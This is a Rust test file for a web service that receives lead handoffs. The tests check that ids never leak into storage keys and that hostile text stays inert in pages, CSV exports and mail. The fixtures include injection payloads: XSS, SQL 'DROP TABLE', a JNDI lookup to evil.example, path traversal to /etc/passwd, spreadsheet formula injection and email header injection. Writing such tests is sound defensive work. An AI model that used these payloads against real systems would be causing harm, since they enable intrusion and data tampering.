//! What ids and texts may say: rows 39 and 40. Neither is ever anything but text.

use super::{
    Door,
    hook::{Hook, JSON, generic_named},
    posts,
};
use domain::handoff::Flag;
use serde_json::{Value, json};
use std::collections::BTreeSet;

/// How many bytes a partition key and a sort key may have.
const KEY_BYTES_MAX: (usize, usize) = (2_048, 1_024);

#[tokio::test]
async fn row_39_an_id_is_opaque_and_never_a_key_of_another_kind() {
    let (long, longer) = ("x".repeat(3_000), format!("{}y", "x".repeat(2_999)));
    let ids = [
        long.as_str(),
        longer.as_str(),
        "JOURNEY#1",
        "a#STATE",
        "../../etc/passwd",
        "a b  c",
        " a",
        "a",
        "a\u{0}",
        "🦀",
        "\u{e9}",
        "e\u{301}",
        "CONFIG#ACTIVE",
        "%00",
        "'; DROP TABLE handoffs; --",
        "${jndi:ldap://evil.example}",
    ];
    for hook in JSON {
        let mut door = Door::open().await;
        let mut journeys = BTreeSet::new();
        for id in ids {
            let what = format!("{hook:?} {id:.20}");
            let body = hook.opens(id, door.world.now(), "x");
            let request = posts(&door, hook, &format!("m{}", journeys.len()), body);
            let handoff = door.opens(request, &what).await;
            let package = door.world.store.package(&handoff.id).await.unwrap();
            // One that is too long to show is cut there, and only there.
            let shown = package.subject.id.as_deref().unwrap();
            assert!(shown == id || shown.starts_with(&id[..id.len().min(1_024)]), "{what}");
            assert_eq!(handoff.flags.contains(&Flag::Shortened), shown != id, "{what}");
            assert!(journeys.insert(handoff.journey), "{what} merged with another");
        }
        let body = hook.opens("", door.world.now(), "x");
        let (_, receipt) = door.kept(posts(&door, hook, "empty", body), "empty").await;
        let aside = door.set_aside(&receipt).await;
        assert!(aside[0].reason.starts_with("field:"), "{hook:?}: {aside:?}");
        let keys = door.asked.keys();
        assert!(keys.len() > 100, "{}", keys.len());
        for (pk, sk) in keys {
            assert!(pk.len() <= KEY_BYTES_MAX.0 && sk.len() <= KEY_BYTES_MAX.1, "{pk} {sk}");
            for id in ids.iter().filter(|id| id.len() > 2) {
                assert!(!pk.contains(id) && !sk.contains(id), "`{id:.20}` is part of {pk} {sk}");
            }
        }
    }
}

#[tokio::test]
async fn row_39_the_id_of_a_message_is_as_opaque() {
    let mut door = Door::open().await;
    let time = door.world.now().timestamp().to_string();
    let long = "m".repeat(3_000);
    let ids = [long.as_str(), "a#SEEN", "a/b", "a b", "a", "🦀", "\u{e9}", "e\u{301}", "a.b"];
    for (number, id) in ids.iter().enumerate() {
        let body = Hook::Generic.opens(&number.to_string(), door.world.now(), "x");
        let request = generic_named(id, "local-generic-secret", &time, &body);
        door.opens(request.clone(), &format!("{id:.20}")).await;
        let (answer, _) = door.kept(request, &format!("{id:.20} again")).await;
        assert_eq!(answer.body["duplicates"], 1, "{id:.20}: {answer:?}");
    }
    assert_eq!(door.opened().await.len(), ids.len());
}

/// Texts that are something else wherever they are not taken for text.
const HOSTILE: [&str; 11] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3+cmd|' /C calc'!A0",
    "\0=1+1",
    "Dana\r\nBcc: everybody@evil.example",
    "\u{202e}gnp.exe",
    "{{7*7}}${7*7}<%= 7*7 %>",
];

/// Checks that a page has no element, attribute or address that a text made.
fn is_inert(page: &str, text: &str) {
    for live in ["<script>alert", "<img src=x", "href=\"javascript:", "href='javascript:"] {
        assert!(!page.contains(live), "{live} of {text}");
    }
}

#[tokio::test]
async fn row_40_hostile_text_is_kept_as_it_is_and_inert_wherever_it_shows() {
    let mut door = Door::open().await;
    let grace = [("x-handoff-person", "grace")];
    let get = |path: &str| (http::Method::GET, path.to_owned());
    for (number, text) in HOSTILE.iter().enumerate() {
        let mut body = Hook::Generic.document(&number.to_string(), door.world.now(), text);
        body["data"]["subject"]["name"] = (*text).into();
        body["data"]["subject"]["company"] = (*text).into();
        body["data"]["fields"] = json!({ "intent_signal": text, *text: text });
        let request = posts(&door, Hook::Generic, &format!("m{number}"), body.to_string());
        let id = door.opens(request, text).await.id;
        let package = door.world.store.package(&id).await.unwrap();
        assert_eq!(package.subject.name.as_deref(), Some(*text), "kept as sent");
        assert_eq!(package.values["intent_signal"].value, *text);
        let (method, path) = get(&format!("/api/handoffs/{id}"));
        let api = door.world.call(method, &path, &grace, Value::Null).await;
        assert_eq!(api.body["subject"]["name"], *text);
        let (method, path) = get(&format!("/handoffs/{id}"));
        let page = door.world.call(method, &path, &grace, Value::Null).await;
        assert_eq!(page.status, 200);
        is_inert(&page.text, text);
    }
    for path in ["/", "/dashboard", "/digest", "/people"] {
        let (method, path) = get(path);
        let page = door.world.call(method, &path, &grace, Value::Null).await;
        assert_eq!(page.status, 200, "{path}");
        is_inert(&page.text, &path);
    }
    let (method, path) = get("/api/handoffs?format=csv");
    let table = door.world.call(method, &path, &grace, Value::Null).await;
    assert!(table.text.contains("HYPERLINK"), "{}", table.text);
    for cell in table.text.split([',', '\n']).map(|cell| cell.trim_start_matches('"')) {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\0']), "{cell}");
    }
    // A day of reminders, escalations and the digest: no mail says what a lead is called.
    door.world.pass(chrono::Duration::hours(23)).await;
    let mail = door.world.read_mail();
    assert!(mail.len() > HOSTILE.len(), "{}", mail.len());
    for (subject, text) in mail {
        assert!(subject.is_ascii() && !subject.contains(['\r', '\n']), "{subject}");
        for hostile in HOSTILE {
            assert!(!subject.contains(hostile) && !text.contains(hostile), "{subject}: {text}");
        }
    }
}

#[tokio::test]
async fn row_40_a_name_of_a_megabyte_is_cut_only_where_it_shows() {
    let mut door = Door::open().await;
    let mut body = Hook::Generic.document("7", door.world.now(), "x");
    body["data"]["subject"]["name"] = "n".repeat(1_000_000).into();
    let request = posts(&door, Hook::Generic, "m", body.to_string());
    let id = door.opens(request, "a long name").await.id;
    let grace = [("x-handoff-person", "grace")];
    for path in ["/".to_owned(), format!("/handoffs/{id}")] {
        let page = door.world.call(http::Method::GET, &path, &grace, Value::Null).await;
        assert_eq!(page.status, 200, "{path}");
        let bytes = page.text.len();
        assert!(bytes < 200_000, "{path} has {bytes} bytes");
    }
}
